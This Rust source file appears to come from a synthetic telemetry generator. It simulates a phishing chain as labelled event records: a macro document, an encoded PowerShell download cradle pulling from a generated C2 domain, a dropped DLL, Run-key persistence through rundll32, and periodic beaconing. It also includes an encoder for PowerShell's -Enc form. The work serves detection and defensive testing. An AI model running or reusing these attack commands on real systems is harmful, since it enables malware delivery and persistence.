//! Phishing macro: an attachment saved from Outlook, opened in Word, whose VBA macro starts
//! an encoded PowerShell download cradle; the payload persists in a Run key and beacons to its
//! C2 about once a minute.

use super::{FileExtra, after, connect, device_event, entry_process, file, token};
use crate::catalog::Img;
use crate::catalog::net::C2_DOMAINS;
use crate::engine::procs::{Spawn, spawn};
use crate::engine::profiles::P;
use crate::engine::write::{head, initiating};
use crate::engine::{Out, World};
use crate::rng;
use crate::row::{C, T};
use std::fmt::Write;
use std::io;

const NAME: &str = "phishing";
const BEACON_SECS: f64 = 60.0;

pub fn step(
    w: &mut World<'_>,
    out: &mut Out<'_>,
    run: usize,
    t: i64,
) -> io::Result<Option<(i64, usize)>> {
    let dev = w.runs[run].dev;
    let step = w.runs[run].step;
    w.runs[run].step += 1;
    let user = w.devs[dev].ctx.user_or_admin();
    match step {
        0 => {
            // text: [C2 domain, C2 IP, attachment path, payload path]
            let r = &mut w.runs[run].rng;
            let domain = format!("{}.{}", token(r, 6), r.pick(C2_DOMAINS));
            let n = r.range(1000, 9999);
            let folder = r.next_u64() as u32;
            let home = &w.devs[dev].ctx.home;
            let run_ = &mut w.runs[run];
            run_.text[0] = domain;
            run_.text[2] = format!(
                r"{home}\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\{folder:08X}\Invoice_{n}.docm"
            );
            run_.text[3] = format!(
                r"{home}\AppData\Roaming\Microsoft\Network\{}.dll",
                token(&mut run_.rng, 8)
            );
            run_.acct = user;
            let outlook = find_or_start_outlook(w, out, dev, t, user)?;
            w.runs[run].procs[0] = outlook;
            let path = w.runs[run].text[2].clone();
            let key = rng::hash_str(w.seed, &path);
            file(
                w,
                out,
                run,
                dev,
                t,
                outlook,
                "FileCreated",
                &path,
                key,
                FileExtra {
                    size: 48_640,
                    ..FileExtra::default()
                },
                "attachment-saved",
            )?;
            Ok(after(t, 40.0, dev))
        }
        1 => {
            let cmd = format!(
                r#""C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "{}" /o """#,
                w.runs[run].text[2]
            );
            let parent = Some(w.runs[run].procs[0]);
            let word = spawn(
                w,
                out,
                dev,
                t,
                parent,
                Spawn {
                    acct: Some(user),
                    ..Spawn::tool(Img::Winword, &cmd, NAME, "macro-document-opened")
                },
            )?;
            w.runs[run].procs[1] = word;
            Ok(after(t, 2.0, dev))
        }
        2 => {
            let word = w.runs[run].procs[1];
            super::image_load(w, out, run, dev, t, word, Img::Vbe7, "vba-engine-loaded")?;
            Ok(after(t, 5.0, dev))
        }
        3 => {
            let tag = w.runs[run].rng.next_u64() as u32;
            let url = format!("https://{}/{tag:08x}/update", w.runs[run].text[0]);
            let script = format!("IEX (New-Object Net.WebClient).DownloadString('{url}')");
            let cmd = format!(
                "powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Enc {}",
                encode_command(&script)
            );
            let parent = Some(w.runs[run].procs[1]);
            let ps = spawn(
                w,
                out,
                dev,
                t,
                parent,
                Spawn {
                    acct: Some(user),
                    ..Spawn::tool(Img::PowerShell, &cmd, NAME, "encoded-powershell")
                },
            )?;
            w.runs[run].procs[2] = ps;
            Ok(after(t, 1.5, dev))
        }
        4 => {
            let ps = w.runs[run].procs[2];
            device_event(
                w,
                out,
                run,
                dev,
                t,
                ps,
                "PowerShellCommand",
                None,
                r#"{"Command":"Invoke-Expression"}"#,
                "powershell-command",
            )?;
            Ok(after(t, 2.0, dev))
        }
        5 => {
            let ps = w.runs[run].procs[2];
            let path = w.runs[run].text[3].clone();
            let key = rng::hash_str(w.seed ^ 0xD11, &path);
            file(
                w,
                out,
                run,
                dev,
                t,
                ps,
                "FileCreated",
                &path,
                key,
                FileExtra {
                    size: 241_664,
                    ..FileExtra::default()
                },
                "payload-dropped",
            )?;
            Ok(after(t, 1.0, dev))
        }
        6 => {
            let ps = w.runs[run].procs[2];
            let s = &mut *w.scratch;
            let d = &mut w.devs[dev];
            let rid = d.st.report_id();
            let (ctx, st) = (&d.ctx, &d.st);
            let _ = write!(
                s.a,
                r"HKEY_CURRENT_USER\{}\Software\Microsoft\Windows\CurrentVersion\Run",
                ctx.acct(user).sid
            );
            let _ = write!(
                s.b,
                r#"rundll32.exe "{}",DllRegisterServer"#,
                w.runs[run].text[3]
            );
            let mut r = out.start(T::Registry);
            head(&mut r, ctx, t, "RegistryValueSet", rid);
            r.s(C::RegistryKey, &s.a);
            r.s(C::RegistryValueType, "String");
            r.s(C::RegistryValueName, "OneDriveUpdate");
            r.s(C::RegistryValueData, &s.b);
            initiating(&mut r, ctx, st.proc(ps));
            out.emit_labeled(dev, r, NAME, "run-key-persistence")?;
            Ok(after(t, 3.0, dev))
        }
        _ => {
            if t >= w.runs[run].until {
                return Ok(None);
            }
            w.runs[run].step = 7;
            let ps = w.runs[run].procs[2];
            let (domain, ip) = (w.runs[run].text[0].clone(), w.runs[run].text[1].clone());
            connect(
                w,
                out,
                run,
                dev,
                t,
                ps,
                &ip,
                443,
                Some(&domain),
                true,
                "c2-beacon",
            )?;
            let gap = w.runs[run].rng.jitter(BEACON_SECS, 0.1);
            Ok(after(t, gap, dev))
        }
    }
}

/// The user's running Outlook (kept alive for the story), or a newly started one.
fn find_or_start_outlook(
    w: &mut World<'_>,
    out: &mut Out<'_>,
    dev: usize,
    t: i64,
    user: u16,
) -> io::Result<u32> {
    let parent = entry_process(w, out, dev, t)?;
    let st = &mut w.devs[dev].st;
    let running = st
        .procs
        .iter()
        .position(|p| p.profile == P::Outlook && p.exit_at > t && p.exit_at != i64::MIN);
    if let Some(i) = running {
        st.procs[i].pinned = true;
        return Ok(i as u32);
    }
    let until = st.session.map(|s| s.end);
    spawn(
        w,
        out,
        dev,
        t,
        Some(parent),
        Spawn {
            acct: Some(user),
            until,
            pinned: true,
            label: Some((NAME, "outlook-started")),
            ..Spawn::new(P::Outlook)
        },
    )
}

/// PowerShell's `-EncodedCommand` form: base64 of the UTF-16LE script.
pub fn encode_command(script: &str) -> String {
    let bytes: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
    base64(&bytes)
}

fn base64(data: &[u8]) -> String {
    const A: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::with_capacity(data.len().div_ceil(3) * 4);
    for chunk in data.chunks(3) {
        let b = [
            chunk[0],
            *chunk.get(1).unwrap_or(&0),
            *chunk.get(2).unwrap_or(&0),
        ];
        let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
        for k in 0..4 {
            if k <= chunk.len() {
                out.push(A[(n >> (18 - 6 * k) & 63) as usize] as char);
            } else {
                out.push('=');
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    #[test]
    fn encoded_commands_are_utf16le_base64() {
        assert_eq!(super::base64(b"Man"), "TWFu");
        assert_eq!(super::base64(b"Ma"), "TWE=");
        assert_eq!(super::base64(b"M"), "TQ==");
        // `powershell -enc` of "dir" is ZABpAHIA.
        assert_eq!(super::encode_command("dir"), "ZABpAHIA");
    }
}
